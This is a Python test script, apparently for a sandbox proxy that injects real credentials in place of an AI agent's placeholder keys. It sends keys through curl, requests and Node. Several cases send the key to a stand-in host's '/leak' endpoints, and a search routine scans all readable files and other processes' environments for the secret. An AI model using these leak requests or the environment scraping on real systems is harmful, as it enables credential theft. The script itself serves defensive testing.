"""The agent's side of the credential tests: real clients (curl, python requests, node) that
send the placeholders the agent holds, as an agent would send its key. Every response is
printed whole (status line, headers, body), so that the test can check that no real value
ever came back. Prints one JSON document.

Usage: creds_agent.py COMMAND [ARG]
"""

import json
import os
import subprocess
import sys

import l7agent

API = "https://api.test.example:8443"
OTHER = "https://other.example:8443"


def curl(*args):
    """curl's whole answer (headers and body) and its status."""
    out = subprocess.run(
        ["curl", "-sS", "-i", "--max-time", "20", "-w", "\n%{http_code}", *args],
        capture_output=True,
        text=True,
    )
    text, _, status = out.stdout.rpartition("\n")
    return {"status": int(status or 0), "text": text + out.stderr}


def requests_call(method, url, **kwargs):
    import requests

    r = requests.request(method, url, timeout=20, **kwargs)
    head = "".join(f"{k}: {v}\n" for k, v in r.headers.items())
    return {"status": r.status_code, "text": f"{r.status_code} {r.reason}\n{head}\n{r.text}"}


NODE_CONNECT = """
const http = require('http'), https = require('https'), tls = require('tls');
const [host, port, path] = ['api.test.example', 8443, process.argv[1]];
http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: `${host}:${port}`})
  .on('connect', (res, socket) => {
    const agent = new https.Agent({keepAlive: false});
    agent.createConnection = () => tls.connect({socket, servername: host});
    const headers = {authorization: 'Bearer ' + process.env.API_KEY};
    https.get({host, port, path, agent, headers}, (r) => {
      let body = '';
      r.on('data', (d) => body += d);
      r.on('end', () => console.log(JSON.stringify({status: r.statusCode,
        text: JSON.stringify(r.headers) + '\\n' + body})));
    }).on('error', (e) => console.log(JSON.stringify({status: 0, text: e.message})));
  }).end();
"""

NODE_FETCH = """
fetch(process.argv[1], {headers: {'x-api-key': process.env.API_KEY}})
  .then(async (r) => console.log(JSON.stringify({status: r.status,
    text: JSON.stringify([...r.headers]) + '\\n' + await r.text()})))
  .catch((e) => console.log(JSON.stringify({status: 0, text: String(e.cause || e)})));
"""


def node(script, *args):
    out = subprocess.run(["node", "-e", script, *args], capture_output=True, text=True)
    try:
        return json.loads(out.stdout)
    except ValueError:
        return {"status": 0, "text": out.stdout + out.stderr}


def inject(_):
    """Every way a client sends a key, to the endpoint the credentials are bound to."""
    key, token = os.environ["API_KEY"], os.environ["BODY_TOKEN"]
    out = {
        "environment": {"API_KEY": key, "BODY_TOKEN": token},
        "curl_header": curl("-H", f"x-api-key: {key}", f"{API}/curl/header"),
        "curl_bearer": curl("-H", f"Authorization: Bearer {key}", f"{API}/curl/bearer"),
        "curl_basic": curl("-u", f"user:{key}", f"{API}/curl/basic"),
        "curl_query": curl(f"{API}/curl/query?key={key}&x=1"),
        "curl_path": curl(f"{API}/curl/path/{key}/end"),
        "curl_json": curl(
            "-H", "content-type: application/json", "-d", json.dumps({"token": token}), f"{API}/curl/json"
        ),
        "requests_header": requests_call("GET", f"{API}/requests/header", headers={"x-api-key": key}),
        "requests_query": requests_call("GET", f"{API}/requests/query", params={"key": key}),
        "requests_basic": requests_call("GET", f"{API}/requests/basic", auth=("user", key)),
        "requests_form": requests_call("POST", f"{API}/requests/form", data={"token": token}),
        "requests_json": requests_call("POST", f"{API}/requests/json", json={"token": token}),
        "node_bearer": node(NODE_CONNECT, "/node/bearer"),
    }
    return out


def fetch(_):
    """Node's fetch, which ignores the proxy variables: direct connections (transparent
    egress), to the bound host and to another one."""
    return {
        "bound": node(NODE_FETCH, f"{API}/fetch/header"),
        "other": node(NODE_FETCH, f"{OTHER}/fetch/leak"),
    }


def refuse(_):
    """The placeholder headed where it is not bound, or resolving to nothing."""
    key = os.environ["API_KEY"]
    raw = f"GET /tunnel HTTP/1.1\r\nHost: test.example:8080\r\nx-api-key: {key}\r\n\r\n"
    return {
        "other_host": curl("-H", f"x-api-key: {key}", f"{OTHER}/leak"),
        "undeclared": curl("-H", "x-api-key: openshell:resolve:env:UNDECLARED", f"{API}/undeclared"),
        "longer_name": curl("-H", f"x-api-key: {key}2", f"{API}/longer"),
        "other_body": curl(
            "-H", "content-type: application/json", "-d", json.dumps({"key": key}), f"{OTHER}/leak-body"
        ),
        "tunnel": l7agent.session({"host": "test.example", "port": 8080, "tls": False, "requests": [raw]}),
        "other_websocket": l7agent.websocket(
            {"host": "other.example", "port": 8443, "path": "/ws", "text": json.dumps({"auth": key})}
        ),
        "other_plain_body": curl("-d", "a=b", f"{OTHER}/unrelated-form"),
    }


def echo(_):
    """Servers echoing the key back, and a websocket message that carries it."""
    key = os.environ["API_KEY"]
    return {
        "header": requests_call("GET", f"{API}/reflect?how=header", headers={"x-api-key": key}),
        "json": requests_call("GET", f"{API}/reflect?how=json", headers={"x-api-key": key}),
        "split": requests_call("GET", f"{API}/reflect?how=split", headers={"x-api-key": key}),
        "curl_split": curl("-H", f"Authorization: Bearer {key}", f"{API}/reflect?how=split"),
        "websocket": l7agent.websocket(
            {"host": "api.test.example", "port": 8443, "path": "/ws", "text": json.dumps({"auth": key})}
        ),
    }


# Trees the search does not read: the kernel's (/proc is searched per process below) and the
# read-only system trees, bound from the host as they are (gigabytes of binaries the supervisor
# never writes to).
SKIPPED = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin")


def reachable_roots():
    """Every mount point of the agent's view: its root is not listable (Landlock gives no
    read on "/"), so walking "/" alone would find nothing."""
    roots = set()
    with open("/proc/self/mountinfo") as f:
        for line in f:
            point = line.split()[4].replace("\\040", " ")
            if not any(point == s or point.startswith(s + "/") for s in SKIPPED):
                roots.add(point)
    return sorted(roots)


def search(xored):
    """Looks for the real value everywhere the agent can read: its environment, every file
    it can open (in every mount of its view but the skipped trees), every process's
    environment and command line, and its open files. The value comes XOR-ed, so that it is
    not in this command line."""
    value = bytes(b ^ 0x5A for b in bytes.fromhex(xored))
    found = []
    if value in b"\0".join(k.encode() + b"=" + v.encode() for k, v in os.environ.items()):
        found.append("os.environ")
    seen = set()
    for top in reachable_roots():
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIPPED]
            for name in files:
                path = os.path.join(root, name)
                if path in seen:
                    continue
                seen.add(path)
                try:
                    if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > 50_000_000:
                        continue
                    with open(path, "rb") as f:
                        if value in f.read():
                            found.append(path)
                except OSError:
                    pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    if value in f.read():
                        found.append(f"/proc/{pid}/{what}")
            except OSError:
                pass
    fds = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    return {"found": found, "fds": fds, "pid1": open("/proc/1/cmdline", "rb").read().decode("latin-1")}


COMMANDS = {"inject": inject, "fetch": fetch, "refuse": refuse, "echo": echo, "search": search}

if __name__ == "__main__":
    print(json.dumps(COMMANDS[sys.argv[1]](sys.argv[2] if len(sys.argv) > 2 else None)))
